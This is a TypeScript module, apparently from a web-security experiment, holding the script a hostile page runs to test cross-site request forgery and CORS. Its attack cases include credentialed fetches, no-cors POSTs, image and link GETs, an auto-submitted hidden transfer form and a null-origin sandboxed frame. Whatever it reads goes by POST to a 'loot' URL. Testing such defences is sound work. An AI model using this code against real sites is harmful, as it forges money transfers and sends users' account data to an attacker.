/// <reference lib="dom" />
import type { Means } from './attacks.ts'

/** What the hostile page is told by the server that shows it. */
export interface Target {
  means: Means
  /** The base URL of the experiment's API. */
  base: string
  transfer: { to: string; amount: string }
  /** Where what was read is sent to. */
  loot: string
  /** The address of the sandboxed frame; null inside it. */
  frame: string | null
}

/**
 * Runs in the hostile page: does what the server says there, and sends home what it could read. It is handed over as text, so
 * it stands alone.
 */
export async function attack(): Promise<void> {
  const { means, base, transfer, loot, frame }: Target = JSON.parse(
    document.querySelector('#target')?.textContent ?? '',
  )
  const fields = new URLSearchParams({ ...transfer })

  async function answerTo(path: string, init: RequestInit): Promise<string> {
    try {
      const answer = await fetch(base + path, { credentials: 'include', ...init })
      return answer.type === 'opaque' ? 'opaque' : `${answer.status} ${await answer.text()}`
    } catch (error) {
      return String(error)
    }
  }

  /** With mode no-cors and as text, so that no preflight is needed: a frame of origin `null` could not have one answered. */
  async function sendHome(got: string): Promise<void> {
    document.querySelector('output')?.replaceChildren(got)
    await fetch(loot, { method: 'POST', mode: 'no-cors', credentials: 'omit', body: got })
  }

  function submit(): void {
    const form = document.createElement('form')
    form.action = `${base}/transfers`
    form.method = 'post'
    for (const [name, value] of fields) {
      const field = document.createElement('input')
      field.type = 'hidden'
      field.name = name
      field.value = value
      form.append(field)
    }
    document.body.append(form)
    form.submit()
  }

  function loadImage(): Promise<string> {
    return new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('an image')
      image.onerror = () => resolve('no image')
      image.src = `${base}/transfers?${fields}`
    })
  }

  switch (means) {
    case 'read':
      return sendHome(await answerTo('/me', {}))
    case 'post':
      return sendHome(await answerTo('/transfers', { method: 'POST', mode: 'no-cors', body: fields }))
    case 'put': {
      const headers = { 'Content-Type': 'application/json' }
      return sendHome(
        await answerTo('/transfers', { method: 'PUT', headers, body: JSON.stringify({ ...transfer }) }),
      )
    }
    case 'image':
      return sendHome(await loadImage())
    case 'link':
      // First, for the link takes this page away; so does the form.
      await sendHome('nothing: a link shows its answer to the user, not to the page')
      return location.assign(`${base}/transfers?${fields}`)
    case 'form':
      await sendHome('nothing: a form shows its answer to the user, not to the page')
      return submit()
    case 'frame': {
      if (frame === null) return sendHome(await answerTo('/me', {}))
      const element = document.createElement('iframe')
      element.sandbox.add('allow-scripts')
      element.src = frame
      document.body.append(element)
    }
  }
}
